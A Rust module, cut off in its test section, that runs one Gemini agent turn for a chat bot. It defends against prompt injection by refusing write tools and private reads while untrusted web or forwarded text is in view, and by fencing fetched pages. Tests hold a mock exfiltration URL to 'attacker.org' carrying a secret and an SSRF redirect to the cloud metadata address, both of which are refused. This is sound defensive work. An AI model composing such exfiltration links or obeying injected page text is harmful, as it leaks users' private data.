//! One agent turn: call Gemini with the assembled prompt and history, run the tools that
//! return results (memory search, URL fetch, remember, set_plan) in a bounded loop, and turn
//! the model's actions into a plan.
//!
//! IO goes through three small ports ([`ModelPort`], [`ToolPort`], [`Clock`]); the edge
//! implements them over `fetch` and D1, the tests with in-memory fakes.
//!
//! Invariants:
//! - At most [`MAX_TOOL_ROUNDS`] + 1 model calls per turn (plus one retry after repairing the
//!   history's shape); the last round disables function calling so the model must answer.
//! - The loop also ends when the model asks again for URLs it already has.
//! - `fetch_url` fetches only URLs people posted (in the history's users' messages) or that
//!   were on a page fetched earlier in this turn, checked by `fetch::check_url` at every hop
//!   (redirects are followed here, by hand, at most `fetch::MAX_REDIRECTS`), at most
//!   `TurnSafety::max_fetches` requests per turn (hops included). A URL the model composed is refused with an
//!   error the model reads.
//! - A round with untrusted text in view offers no tool that writes, and such calls are refused
//!   if made anyway. What is in view decides, whichever turn brought it: a fetched page (this
//!   turn's, or its trimmed copy replayed from an earlier one), Google Search results (a
//!   grounded answer's search parts, replayed too), a document or recording sent inline, and
//!   what the edge saw in the history's messages (`TurnSafety::outside_text_in_view`:
//!   forwarded messages, documents, voice notes and their transcripts).
//! - A round with a page in view offers no tool that reads private data (`tools::PRIVATE_READS`:
//!   memories, schedules): the page could have the model encode what it reads in its choice
//!   among the page's links. Every hop of a redirect counts as a fetch against the cap.
//! - Each fetched page is fenced with its own boundary, drawn from the seed the edge passes.
//! - A send step whose text links anything no person posted is marked `no_link_preview`.
//! - Thought parts are never stored or shown; every other part of the model's turns is kept
//!   exactly as returned, thought signatures included.
//! - An empty or refused answer (SAFETY, RECITATION, OTHER, no parts) becomes a short graceful
//!   reply, never silence; the reason is returned for the record. The exception is a turn
//!   where silence is allowed (a reaction or the bot's name in passing): there an empty answer
//!   or a `no_reply` call is intended silence, recorded as [`TurnResult::silent`], never an
//!   apology.

pub mod media;
pub mod prompt;
pub mod session;
pub mod tools;
pub mod window;

use crate::fetch::{self, check_url, fence, FetchResponse, LinkSet, Page, Refusal};
use crate::gemini::*;
use crate::history::{normalize_contents, sanitize_reply, BotTurn};
use crate::chat::plan::Step;
use tools::{parse_call, ToolCall};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use url::Url;

/// Tool rounds before the model is made to answer.
pub const MAX_TOOL_ROUNDS: usize = 4;
/// Characters of a tool response kept in the stored turn (the full text is sent once).
const STORED_RESPONSE_CHARS: usize = 600;

/// What the user sees when the model gives nothing usable.
pub const GRACEFUL_REPLY: &str = "Sorry, I can't help with that one. Could you put it another way?";

#[allow(async_fn_in_trait)]
pub trait ModelPort {
    async fn generate(&self, model: &str, request: &GenerateContentRequest) -> Result<GenerateContentResponse, ModelError>;
}

#[allow(async_fn_in_trait)]
pub trait ToolPort {
    /// One GET of a checked URL, redirects not followed. The body is read only when
    /// `fetch::should_read_body(status, content_type)`, and at most `fetch::MAX_BODY_BYTES` of it.
    /// `Err` is a network failure or timeout.
    async fn fetch_url(&self, url: &str) -> Result<FetchResponse, String>;
    async fn search_memory(&self, query: &str) -> Vec<String>;
    async fn remember(&self, content: &str, about_user_id: Option<i64>) -> Result<i64, String>;
    async fn set_plan(&self, content: &str) -> Result<(), String>;
    /// Creates a schedule in this chat (the edge plans it with `schedule::plan` over the chat's
    /// zone and active count). `Ok` is what the model reads (`schedule::created_value`); `Err`
    /// a reason it reads (time in the past, unknown zone, too many schedules...).
    async fn schedule(&self, request: &crate::chat::schedule::Request) -> Result<Value, String>;
    /// This chat's active schedules (`schedule::list_value`).
    async fn list_schedules(&self) -> Result<Value, String>;
    /// Cancels one of this chat's schedules.
    async fn cancel_schedule(&self, id: i64) -> Result<Value, String>;
}

pub trait Clock {
    fn now_ms(&self) -> i64;
}

/// Everything a turn needs, assembled by the caller.
#[derive(Debug, Clone)]
pub struct TurnRequest {
    pub model: String,
    pub system_instruction: String,
    pub history: Vec<Content>,
    pub tools: Vec<Tool>,
    pub generation_config: Option<GenerationConfig>,
    pub sticker_sets: Vec<String>,
    /// `FETCH_ALLOW_PRIVATE`: loopback may be fetched (tests, local development).
    pub fetch_allow_private: bool,
    pub safety: TurnSafety,
    /// The model may stay silent (reaction and name triggers): an empty answer is intended.
    pub silence_allowed: bool,
    /// What to send when the model gives nothing usable, instead of [`GRACEFUL_REPLY`] (a
    /// scheduled run sends its own text: a reminder is never lost).
    pub empty_reply: Option<String>,
}

/// What the turn needs to keep untrusted text from steering it (see the module invariants).
#[derive(Debug, Clone, PartialEq)]
pub struct TurnSafety {
    /// Links people posted in the history the model sees (`LinkSet::from_people`).
    pub people_links: LinkSet,
    /// Text from outside the chat is in the history: a forwarded message, a document, a
    /// recording (`fetch::outside_text_in_view`).
    pub outside_text_in_view: bool,
    /// Requests fetch_url makes at most per turn, redirect hops included (`MAX_FETCHES_PER_TURN`).
    pub max_fetches: usize,
    /// Visible plan steps at most per turn (`MAX_PLAN_STEPS`).
    pub max_steps: usize,
    /// Randomness from the edge for the fences' boundaries.
    pub fence_seed: u128,
}

impl Default for TurnSafety {
    fn default() -> Self {
        TurnSafety {
            people_links: LinkSet::default(),
            outside_text_in_view: false,
            max_fetches: fetch::DEFAULT_MAX_FETCHES_PER_TURN,
            max_steps: crate::chat::plan::DEFAULT_MAX_VISIBLE_STEPS,
            fence_seed: 0,
        }
    }
}

/// Whether untrusted text is in view in a round with these contents (computed from what is
/// sent, every round: see the module invariants).
pub fn untrusted_in_view(req: &TurnRequest, contents: &[Content]) -> bool {
    req.safety.outside_text_in_view
        || fetch::page_in_view(contents)
        || fetch::search_in_view(contents)
        || fetch::document_in_view(contents)
}

/// What a write tool answers in a round with untrusted text in view.
const WRITE_REFUSED: &str = "not available now: text from outside this chat (a web page, search results, a forwarded \
     message, a document or recording) is in view, so nothing is stored or scheduled; answer the person instead";

/// What a private read answers in a round with a fetched page in view.
const READ_REFUSED: &str = "not available now: a fetched web page is in view, so memories and schedules are not \
     read in this turn; answer with what you have";

/// One model call, for usage and cost accounting.
#[derive(Debug, Clone, PartialEq)]
pub struct CallRecord {
    pub model: String,
    pub usage: UsageMetadata,
    pub duration_ms: i64,
    pub finish_reason: Option<String>,
    /// HTTP status, 200 on success.
    pub status: u16,
    /// Google Search queries the call ran (grounding), billed per query.
    pub search_queries: u32,
    pub error: Option<String>,
}

impl CallRecord {
    /// The record of one call to `model` that took `duration_ms` (the one place a call record
    /// is made: turns and consolidation alike). A response names the model version that
    /// answered; an error keeps its HTTP status (0 when there was none) and text.
    pub fn of(model: &str, result: &Result<GenerateContentResponse, ModelError>, duration_ms: i64) -> CallRecord {
        match result {
            Ok(response) => CallRecord {
                model: response.model_version.clone().unwrap_or_else(|| model.to_string()),
                usage: response.usage_metadata.clone().unwrap_or_default(),
                duration_ms,
                finish_reason: response.finish_reason().map(str::to_string),
                status: 200,
                search_queries: response.search_queries(),
                error: None,
            },
            Err(error) => CallRecord {
                model: model.to_string(),
                usage: UsageMetadata::default(),
                duration_ms,
                finish_reason: None,
                search_queries: 0,
                status: match error {
                    ModelError::Http { status, .. } => *status,
                    _ => 0,
                },
                error: Some(error.to_string()),
            },
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct TurnResult {
    /// The turn as stored: model contents and (trimmed) tool responses.
    pub turn: BotTurn,
    pub steps: Vec<Step>,
    /// For each step, the index of the function call it came from (`None`: plain text).
    pub step_calls: Vec<Option<usize>>,
    pub calls: Vec<CallRecord>,
    /// Why the model gave nothing usable, when it did not.
    pub empty_reason: Option<String>,
    pub finish_reason: Option<String>,
    /// The model chose to say nothing (`no_reply`, or an empty answer where that is allowed).
    pub silent: bool,
    /// A schedule was created or cancelled (the chat object re-reads its next run).
    pub schedules_changed: bool,
    /// Web pages Google Search grounded the answer on (title, URL), as Gemini listed them.
    pub sources: Vec<(String, String)>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct TurnFailure {
    pub error: ModelError,
    pub calls: Vec<CallRecord>,
}

fn trimmed_for_storage(content: &Content) -> Content {
    let mut c = content.clone();
    for p in &mut c.parts {
        if let Some(fr) = &mut p.function_response {
            let text = fr.response.to_string();
            if text.chars().count() > STORED_RESPONSE_CHARS {
                let head: String = text.chars().take(STORED_RESPONSE_CHARS).collect();
                fr.response = json!({"note": "trimmed in history", "head": head});
            }
        }
    }
    c
}

fn without_thoughts(mut c: Content) -> Content {
    c.parts.retain(|p| !p.is_thought());
    c
}

/// Drops what makes Gemini reject a history: function-call turns that are not answered and
/// empty turns; merges same-role neighbours.
pub fn repair_history(contents: Vec<Content>) -> Vec<Content> {
    let mut out: Vec<Content> = Vec::new();
    for (i, c) in contents.iter().enumerate() {
        let calls = c.function_calls().count();
        if c.is_model() && calls > 0 {
            let answered = contents.get(i + 1).map_or(0, |next| {
                next.parts.iter().filter(|p| p.function_response.is_some()).count()
            });
            if answered != calls {
                // Keep the visible text of a broken call turn, drop the calls.
                let text = c.visible_text();
                if !text.trim().is_empty() {
                    out.push(Content::model(vec![Part::text(text)]));
                }
                continue;
            }
        }
        if !c.is_model() && c.parts.iter().any(|p| p.function_response.is_some()) {
            let prev_calls = i.checked_sub(1).map_or(0, |p| contents[p].function_calls().count());
            let responses = c.parts.iter().filter(|p| p.function_response.is_some()).count();
            if prev_calls != responses {
                let kept: Vec<Part> = c.parts.iter().filter(|p| p.function_response.is_none()).cloned().collect();
                out.push(Content { role: c.role.clone(), parts: kept });
                continue;
            }
        }
        let mut c = c.clone();
        // An empty text part is rejected by Gemini ("empty text parameter").
        c.parts.retain(|p| p.text.as_deref() != Some("") || p.function_call.is_some() || !p.extra.is_empty());
        out.push(c);
    }
    normalize_contents(out)
}

/// The generateContent request of one round, exactly as sent. The last round disables
/// function calling so the model must answer in text.
pub fn build_request(req: &TurnRequest, contents: &[Content], last_round: bool) -> GenerateContentRequest {
    build_round(req, contents, last_round, false)
}

/// [`build_request`] for a round after a grounded web search (`searched`): what came from the
/// web is in view, so no tool that writes is offered.
fn build_round(req: &TurnRequest, contents: &[Content], last_round: bool, searched: bool) -> GenerateContentRequest {
    GenerateContentRequest {
        system_instruction: Some(Content { role: None, parts: vec![Part::text(req.system_instruction.clone())] }),
        contents: contents.to_vec(),
        tools: crate::turn::tools::for_round(&req.tools, searched || untrusted_in_view(req, contents), fetch::page_in_view(contents)),
        tool_config: tool_config(req, last_round),
        generation_config: req.generation_config.clone(),
    }
}

/// The request's `toolConfig`: the last round disables function calling; with Google Search
/// on, the server's own tool calls come back in the content (to be replayed, like thought
/// signatures).
fn tool_config(req: &TurnRequest, last_round: bool) -> Option<Value> {
    let search = req.tools.iter().any(|t| t.google_search.is_some());
    let mut config = serde_json::Map::new();
    if last_round {
        config.insert("functionCallingConfig".into(), json!({"mode": "NONE"}));
    }
    if search {
        config.insert("includeServerSideToolInvocations".into(), json!(true));
    }
    (!config.is_empty()).then_some(Value::Object(config))
}

/// Fetches one checked URL, following redirects by hand: every hop is checked like the first
/// URL, at most `fetch::MAX_REDIRECTS` of them, and every request (hops included) counts in
/// `fetches`, at most `max` a turn. Returns the final URL and the page.
async fn fetch_page(tools: &impl ToolPort, start: Url, allow_loopback: bool, fetches: &mut usize, max: usize) -> Result<(Url, Page), String> {
    let mut url = start;
    let mut hops = 0;
    loop {
        if *fetches >= max {
            return Err(Refusal::Limit(max).to_string());
        }
        *fetches += 1;
        let resp = tools.fetch_url(url.as_str()).await?;
        if !fetch::is_redirect(resp.status) {
            return fetch::read_page(&url, &resp).map(|page| (url, page));
        }
        if hops >= fetch::MAX_REDIRECTS {
            return Err(Refusal::TooManyRedirects.to_string());
        }
        hops += 1;
        url = fetch::redirect_target(&url, resp.location.as_deref(), allow_loopback).map_err(|r| r.to_string())?;
    }
}

/// What a turn carries from round to round: the request contents so far, the result being
/// built, and what `fetch_url` has fetched and may fetch.
struct TurnState {
    contents: Vec<Content>,
    result: TurnResult,
    /// The index the next function call of the turn gets (counted over all rounds).
    call_index: usize,
    fetched: BTreeSet<String>,
    /// What fetch_url may fetch: links people posted, then links on pages fetched in this turn.
    fetchable: LinkSet,
    fetches: usize,
    /// The model asked again for pages it has: the next round is the last.
    force_answer: bool,
    /// The history's shape was repaired once already.
    repaired: bool,
    /// Google Search results came back in this turn: web text is in view from then on.
    searched: bool,
}

impl TurnState {
    fn new(req: &TurnRequest) -> Self {
        TurnState {
            contents: req.history.clone(),
            result: TurnResult {
                turn: BotTurn::default(),
                steps: Vec::new(),
                step_calls: Vec::new(),
                calls: Vec::new(),
                empty_reason: None,
                finish_reason: None,
                silent: false,
                schedules_changed: false,
                sources: Vec::new(),
            },
            call_index: 0,
            fetched: BTreeSet::new(),
            fetchable: req.safety.people_links.clone(),
            fetches: 0,
            force_answer: false,
            repaired: false,
            searched: false,
        }
    }

    /// Adds a send step of plain text (not from a function call).
    fn send(&mut self, text: String) {
        self.result.steps.push(Step::Send { text, reply_to: None, no_link_preview: false });
        self.result.step_calls.push(None);
    }
}

/// Runs one turn: rounds of [`call_model`], [`read_answer`] and [`run_calls`] until the model
/// answers without asking for results (or the last round made it answer), then [`finish_plan`].
pub async fn run_turn(
    req: &TurnRequest,
    model: &impl ModelPort,
    tools: &impl ToolPort,
    clock: &impl Clock,
) -> Result<TurnResult, TurnFailure> {
    let mut st = TurnState::new(req);
    let mut round = 0;
    loop {
        let last_round = st.force_answer || round >= MAX_TOOL_ROUNDS;
        let Some(response) = call_model(req, model, clock, &mut st, last_round).await? else {
            continue; // the history's shape was repaired: the same round again
        };
        let Some(content) = read_answer(req, &mut st, &response) else {
            break;
        };
        let (responses, needs_round) = run_calls(req, tools, &mut st, &content).await;
        if !needs_round || last_round {
            break;
        }
        let response_content = Content::user(responses);
        st.result.turn.contents.push(trimmed_for_storage(&response_content));
        st.contents.push(content);
        st.contents.push(response_content);
        round += 1;
    }
    Ok(finish_plan(req, st.result))
}

/// One model call of the turn, recorded. `None`: Gemini refused the history's shape and it was
/// repaired (once a turn): call again. A failed call ends the turn.
async fn call_model(
    req: &TurnRequest,
    model: &impl ModelPort,
    clock: &impl Clock,
    st: &mut TurnState,
    last_round: bool,
) -> Result<Option<GenerateContentResponse>, TurnFailure> {
    let request = build_round(req, &st.contents, last_round, st.searched);
    let started = clock.now_ms();
    let response = model.generate(&req.model, &request).await;
    let duration_ms = clock.now_ms() - started;
    st.result.calls.push(CallRecord::of(&req.model, &response, duration_ms));
    match response {
        Ok(r) => Ok(Some(r)),
        Err(error) if error.is_history_shape() && !st.repaired => {
            st.repaired = true;
            st.contents = repair_history(std::mem::take(&mut st.contents));
            Ok(None)
        }
        Err(error) => Err(TurnFailure { error, calls: std::mem::take(&mut st.result.calls) }),
    }
}

/// Reads one round's answer: its finish reason, whether it searched the web, its sources, and
/// its visible text as a send step. Returns the model's content without thoughts; `None` for
/// an empty or refused answer, which ends the turn ([`empty_answer`]).
fn read_answer(req: &TurnRequest, st: &mut TurnState, response: &GenerateContentResponse) -> Option<Content> {
    st.result.finish_reason = response.finish_reason().map(str::to_string);
    // A grounded answer read web pages: its own calls, and later rounds, may not write.
    st.searched |= response.searched();
    for source in response.grounding_sources() {
        if st.result.sources.len() < MAX_SOURCES && !st.result.sources.iter().any(|(_, u)| *u == source.1) {
            st.result.sources.push(source);
        }
    }
    let content = match response.outcome() {
        Outcome::Content(c) => without_thoughts(c),
        Outcome::Empty { reason } => {
            empty_answer(req, st, reason);
            return None;
        }
    };
    st.result.turn.contents.push(content.clone());
    let text = sanitize_reply(&content.visible_text());
    if !text.trim().is_empty() {
        st.send(text);
    }
    Some(content)
}

/// An empty or refused answer with nothing visible planned yet: intended silence where the
/// turn allows it, else the graceful reply (never silence); the reason is kept for the record.
fn empty_answer(req: &TurnRequest, st: &mut TurnState, reason: String) {
    if st.result.steps.iter().any(Step::is_visible) {
        return;
    }
    st.result.empty_reason = Some(reason);
    if req.silence_allowed || st.result.silent {
        st.result.silent = true;
    } else {
        st.send(req.empty_reply.clone().unwrap_or_else(|| GRACEFUL_REPLY.to_string()));
    }
}

/// Carries out the answer's function calls: actions become plan steps, tools run now. With
/// untrusted text in view no call writes, with a page in view none reads private data.
/// Returns the function responses and whether the model must be called again to use them.
async fn run_calls(req: &TurnRequest, tools: &impl ToolPort, st: &mut TurnState, content: &Content) -> (Vec<Part>, bool) {
    let untrusted = st.searched || untrusted_in_view(req, &st.contents);
    let page = fetch::page_in_view(&st.contents);
    let mut responses = Vec::new();
    let mut needs_round = false;
    for call in content.function_calls() {
        let index = st.call_index;
        st.call_index += 1;
        let mut parsed = parse_call(call, &req.sticker_sets);
        if untrusted && tools::writes(&call.name) {
            parsed = ToolCall::Invalid { name: call.name.clone(), error: WRITE_REFUSED.into() };
        } else if page && tools::reads_private(&call.name) {
            parsed = ToolCall::Invalid { name: call.name.clone(), error: READ_REFUSED.into() };
        }
        needs_round |= parsed.needs_result();
        let (response, again) = run_call(req, tools, st, index, parsed).await;
        needs_round |= again;
        responses.push(Part::function_response(&call.name, call.id.clone(), response));
    }
    (responses, needs_round)
}

/// Carries out one function call (the `index`th of the turn): what the model reads back, and
/// whether the model must answer after all (a `no_reply` where a person asked).
async fn run_call(req: &TurnRequest, tools: &impl ToolPort, st: &mut TurnState, index: usize, call: ToolCall) -> (Value, bool) {
    let response = match call {
        ToolCall::Action(step) => {
            st.result.steps.push(step);
            st.result.step_calls.push(Some(index));
            json!({"ok": true, "status": "scheduled"})
        }
        ToolCall::Remember { content, about_user_id } => {
            let r = match tools.remember(&content, about_user_id).await {
                Ok(id) => json!({"ok": true, "memory_id": id}),
                Err(e) => json!({"error": e}),
            };
            recorded(&mut st.result, index, r)
        }
        ToolCall::SetPlan { content } => {
            let r = match tools.set_plan(&content).await {
                Ok(()) => json!({"ok": true}),
                Err(e) => json!({"error": e}),
            };
            recorded(&mut st.result, index, r)
        }
        ToolCall::FetchUrl { urls } => fetch_urls(req, tools, st, &urls).await,
        ToolCall::SearchMemory { query } => json!({"results": tools.search_memory(&query).await}),
        ToolCall::NoReply if req.silence_allowed => {
            st.result.silent = true;
            json!({"ok": true, "status": "staying silent"})
        }
        // Where silence is not allowed (a person asked), no_reply cannot ignore them.
        ToolCall::NoReply => return (json!({"error": "not available: this message asks for an answer"}), true),
        ToolCall::Schedule(request) => schedule_changed(&mut st.result, index, tools.schedule(&request).await),
        ToolCall::ListSchedules => tools.list_schedules().await.unwrap_or_else(|e| json!({"error": e})),
        ToolCall::CancelSchedule { id } => schedule_changed(&mut st.result, index, tools.cancel_schedule(id).await),
        ToolCall::Invalid { error, .. } => json!({"error": error}),
    };
    (response, false)
}

/// Keeps what a function did in the stored turn (its answer replays with the turn); returns it.
fn recorded(result: &mut TurnResult, index: usize, r: Value) -> Value {
    result.turn.outcomes.insert(index, r.clone());
    r
}

/// `fetch_url`: fetches the URLs not fetched yet in this turn, each checked and fenced. Asked
/// only for pages it already has, the model is told to answer, and the next round is the last.
async fn fetch_urls(req: &TurnRequest, tools: &impl ToolPort, st: &mut TurnState, urls: &[String]) -> Value {
    let new: Vec<String> = urls.iter().filter(|u| !st.fetched.contains(u.trim())).cloned().collect();
    if new.is_empty() {
        st.force_answer = true;
        return json!({"error": "You already have these pages. Answer now."});
    }
    let mut pages = Vec::new();
    for url in new {
        st.fetched.insert(url.trim().to_string());
        pages.push(fetch_one(req, tools, st, url).await);
    }
    json!({"pages": pages})
}

/// One URL of a `fetch_url` call: refused unless the policy allows it, people posted it (or a
/// page of this turn linked it) and the turn's fetches are not used up; else the page, fenced,
/// its links fetchable from then on.
async fn fetch_one(req: &TurnRequest, tools: &impl ToolPort, st: &mut TurnState, url: String) -> Value {
    let max = req.safety.max_fetches;
    let checked = check_url(&url, req.fetch_allow_private).and_then(|u| {
        if !st.fetchable.contains(&u) {
            Err(Refusal::NotPosted)
        } else if st.fetches >= max {
            Err(Refusal::Limit(max))
        } else {
            Ok(u)
        }
    });
    let start = match checked {
        Err(e) => return json!({"url": url, "error": e.to_string()}),
        Ok(u) => u,
    };
    let n = st.fetches as u64;
    match fetch_page(tools, start, req.fetch_allow_private, &mut st.fetches, max).await {
        Ok((final_url, page)) => {
            for link in &page.links {
                st.fetchable.add(link);
            }
            let boundary = fetch::boundary(req.safety.fence_seed, n);
            json!({"url": final_url.as_str(), "content": fence(final_url.as_str(), &page.text, &boundary)})
        }
        Err(e) => json!({"url": url, "error": e}),
    }
}

/// The plan's last touches: at most `max_steps` visible steps (the calls cut are told why),
/// the sources under the last message, and the link preview off in every message that links
/// anything no person posted.
fn finish_plan(req: &TurnRequest, mut result: TurnResult) -> TurnResult {
    if let Some(cut) = crate::chat::plan::cap_visible(&mut result.steps, &mut result.step_calls, req.safety.max_steps) {
        for index in cut.calls {
            result.turn.outcomes.insert(index, json!({"error": format!("not carried out: one answer may take at most {} steps", req.safety.max_steps)}));
        }
    }
    if let Some(Step::Send { text, .. }) = result.steps.iter_mut().rev().find(|s| matches!(s, Step::Send { .. })) {
        text.push_str(&sources_line(&result.sources));
    }
    for step in &mut result.steps {
        if let Step::Send { text, no_link_preview, .. } = step {
            *no_link_preview = fetch::needs_preview_off(text, &req.safety.people_links);
        }
    }
    result
}

/// Records what a schedule function did (kept in the stored turn, like `remember`'s answer)
/// and whether it changed the chat's schedules; returns what the model reads.
fn schedule_changed(result: &mut TurnResult, index: usize, outcome: Result<Value, String>) -> Value {
    let r = match outcome {
        Ok(v) => {
            result.schedules_changed = true;
            v
        }
        Err(e) => json!({"error": e}),
    };
    result.turn.outcomes.insert(index, r.clone());
    r
}

/// Sources listed under a grounded answer at most.
pub const MAX_SOURCES: usize = 5;

/// The sources line appended to a grounded answer (Markdown; titles escaped, only http(s)
/// links), or nothing.
pub fn sources_line(sources: &[(String, String)]) -> String {
    let links: Vec<String> = sources
        .iter()
        .filter(|(_, uri)| uri.starts_with("https://") || uri.starts_with("http://"))
        .filter(|(_, uri)| !uri.contains(|c: char| c.is_whitespace() || c == ')' || c == '<' || c == '>'))
        .map(|(title, uri)| {
            let title: String = title.chars().take(60).collect();
            let title = if title.trim().is_empty() { "source".to_string() } else { title };
            format!("[{}]({uri})", crate::format::escape_markdown(&title))
        })
        .collect();
    if links.is_empty() {
        String::new()
    } else {
        format!("\n\nSources: {}", links.join(" · "))
    }
}

/// The function response recorded for an action step once it ran.
pub fn step_outcome_value(outcome: &crate::chat::plan::StepOutcome) -> Value {
    use crate::chat::plan::StepOutcome::*;
    match outcome {
        Sent { message_ids } => json!({"ok": true, "message_ids": message_ids}),
        Done => json!({"ok": true}),
        Cancelled => json!({"ok": false, "status": "cancelled: new messages arrived first"}),
        Failed { error } => json!({"ok": false, "error": error}),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use futures::executor::block_on;
    use std::cell::RefCell;

    struct FakeModel {
        answers: RefCell<Vec<Result<GenerateContentResponse, ModelError>>>,
        seen: RefCell<Vec<GenerateContentRequest>>,
    }

    impl FakeModel {
        fn new(answers: Vec<Result<Value, ModelError>>) -> Self {
            let answers = answers
                .into_iter()
                .map(|a| a.map(|v| serde_json::from_value(v).unwrap()))
                .rev()
                .collect();
            FakeModel { answers: RefCell::new(answers), seen: RefCell::new(Vec::new()) }
        }
    }

    impl ModelPort for FakeModel {
        async fn generate(&self, _model: &str, request: &GenerateContentRequest) -> Result<GenerateContentResponse, ModelError> {
            self.seen.borrow_mut().push(request.clone());
            self.answers.borrow_mut().pop().expect("an answer")
        }
    }

    #[derive(Default)]
    struct FakeTools {
        fetched: RefCell<Vec<String>>,
        remembered: RefCell<Vec<String>>,
        /// Scripted responses by URL; others get a small HTML page.
        routes: std::collections::BTreeMap<String, FetchResponse>,
    }

    fn html(body: &str) -> FetchResponse {
        FetchResponse { status: 200, content_type: "text/html".into(), body: Some(body.into()), ..Default::default() }
    }

    fn redirect(to: &str) -> FetchResponse {
        FetchResponse { status: 302, location: Some(to.into()), ..Default::default() }
    }

    impl ToolPort for FakeTools {
        async fn fetch_url(&self, url: &str) -> Result<FetchResponse, String> {
            self.fetched.borrow_mut().push(url.to_string());
            Ok(self.routes.get(url).cloned().unwrap_or_else(|| html(&format!("<p>text of {url}</p>"))))
        }
        async fn search_memory(&self, _q: &str) -> Vec<String> {
            vec!["Alice likes tea".into()]
        }
        async fn remember(&self, content: &str, _u: Option<i64>) -> Result<i64, String> {
            self.remembered.borrow_mut().push(content.to_string());
            Ok(7)
        }
        async fn set_plan(&self, _c: &str) -> Result<(), String> {
            Ok(())
        }
        async fn schedule(&self, r: &crate::chat::schedule::Request) -> Result<Value, String> {
            self.remembered.borrow_mut().push(format!("schedule {}", r.text));
            if r.text == "refuse" {
                return Err("that time is in the past".into());
            }
            Ok(json!({"ok": true, "id": 9, "next_run": "Thursday, 2026-11-26 09:00 (UTC)"}))
        }
        async fn list_schedules(&self) -> Result<Value, String> {
            Ok(json!({"schedules": []}))
        }
        async fn cancel_schedule(&self, id: i64) -> Result<Value, String> {
            Err(format!("no active schedule #{id} in this chat"))
        }
    }

    struct Tick(RefCell<i64>);
    impl Clock for Tick {
        fn now_ms(&self) -> i64 {
            *self.0.borrow_mut() += 10;
            *self.0.borrow()
        }
    }

    fn answer(parts: Value) -> Result<Value, ModelError> {
        Ok(json!({"candidates": [{"content": {"role": "model", "parts": parts}, "finishReason": "STOP"}],
                  "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}}))
    }

    fn request() -> TurnRequest {
        TurnRequest {
            model: "m".into(),
            system_instruction: "sys".into(),
            history: vec![Content::user(vec![Part::text("hi")])],
            tools: crate::turn::tools::declarations(&[]),
            generation_config: None,
            sticker_sets: vec![],
            fetch_allow_private: false,
            safety: TurnSafety { people_links: people(PEOPLE), fence_seed: 7, ..TurnSafety::default() },
            silence_allowed: false,
            empty_reply: None,
        }
    }

    /// What the person wrote in the tests' history.
    const PEOPLE: &str = "read https://example.com/a and http://127.0.0.1/secret, https://e.com/x \
        https://e.com/0 https://e.com/1 https://e.com/2 https://e.com/3 https://e.com/4 https://e.com/5 \
        https://e.com/6 https://e.com/7 https://e.com/8 https://e.com/9";

    fn people(text: &str) -> LinkSet {
        let mut set = LinkSet::default();
        set.add_text(text);
        set
    }

    fn run(model: &FakeModel, tools: &FakeTools) -> Result<TurnResult, TurnFailure> {
        run_with(&request(), model, tools)
    }

    fn run_with(req: &TurnRequest, model: &FakeModel, tools: &FakeTools) -> Result<TurnResult, TurnFailure> {
        block_on(run_turn(req, model, tools, &Tick(RefCell::new(0))))
    }

    fn fetch_call(urls: &[&str]) -> Result<Value, ModelError> {
        answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": urls}}}]))
    }

    /// The function responses the model got in its `i`th request.
    fn responses(m: &FakeModel, i: usize) -> Vec<Value> {
        m.seen.borrow()[i].contents.last().unwrap().parts.iter().filter_map(|p| p.function_response.clone()).map(|r| r.response).collect()
    }

    fn offered(m: &FakeModel, i: usize) -> Vec<String> {
        m.seen.borrow()[i].tools.iter().flat_map(|t| &t.function_declarations).map(|d| d.name.clone()).collect()
    }

    #[test]
    fn composed_urls_are_refused_and_page_links_become_fetchable() {
        let mut tools = FakeTools::default();
        tools.routes.insert("https://example.com/a".into(), html("<p>see <a href=\"/next\">next</a></p>"));
        let m = FakeModel::new(vec![
            fetch_call(&["https://example.com/a"]),
            fetch_call(&["https://example.com/next", "https://example.com/a?q=SECRET", "https://attacker.org/?q=SECRET"]),
            answer(json!([{"text": "done"}])),
        ]);
        run(&m, &tools).unwrap();
        assert_eq!(*tools.fetched.borrow(), vec!["https://example.com/a", "https://example.com/next"]);
        let pages = responses(&m, 2)[0]["pages"].clone();
        assert!(pages[0]["content"].is_string(), "a link on a fetched page: {pages}");
        for i in [1, 2] {
            assert!(pages[i]["error"].as_str().unwrap().contains("does not appear"), "{pages}");
        }
    }

    #[test]
    fn redirects_are_followed_by_hand_and_checked_at_every_hop() {
        let mut tools = FakeTools::default();
        tools.routes.insert("https://e.com/0".into(), redirect("/1"));
        tools.routes.insert("https://e.com/1".into(), redirect("https://other.org/page"));
        tools.routes.insert("https://e.com/2".into(), redirect("http://169.254.169.254/latest/meta-data/"));
        tools.routes.insert("https://e.com/3".into(), redirect("/3"));
        let m = FakeModel::new(vec![
            fetch_call(&["https://e.com/0", "https://e.com/2", "https://e.com/3"]),
            answer(json!([{"text": "done"}])),
        ]);
        // Every hop is a fetch (8 here): a cap that leaves room for them all.
        let mut req = request();
        req.safety.max_fetches = 20;
        run_with(&req, &m, &tools).unwrap();
        let pages = responses(&m, 1)[0]["pages"].clone();
        assert_eq!(pages[0]["url"], "https://other.org/page", "a redirect elsewhere is fine when the policy allows it");
        assert!(pages[0]["content"].as_str().unwrap().contains("text of https://other.org/page"));
        assert!(pages[1]["error"].as_str().unwrap().starts_with("redirect refused: private"), "{pages}");
        assert!(pages[2]["error"].as_str().unwrap().contains("too many redirects"), "{pages}");
        let fetched = tools.fetched.borrow();
        assert!(!fetched.iter().any(|u| u.contains("169.254")), "the refused hop is never requested");
        assert_eq!(fetched.iter().filter(|u| *u == "https://e.com/3").count(), 1 + fetch::MAX_REDIRECTS);
    }

    #[test]
    fn fetches_per_turn_are_capped() {
        let tools = FakeTools::default();
        let m = FakeModel::new(vec![
            fetch_call(&["https://e.com/0", "https://e.com/1", "https://e.com/2"]),
            fetch_call(&["https://e.com/3", "https://e.com/4", "https://e.com/5"]),
            answer(json!([{"text": "done"}])),
        ]);
        let mut req = request();
        req.safety.max_fetches = 4;
        run_with(&req, &m, &tools).unwrap();
        assert_eq!(tools.fetched.borrow().len(), 4);
        let pages = responses(&m, 2)[0]["pages"].clone();
        assert!(pages[0]["content"].is_string());
        assert_eq!(pages[1]["error"], "at most 4 fetches per turn; answer with what you have");
        assert_eq!(pages[2]["error"], pages[1]["error"]);
    }

    #[test]
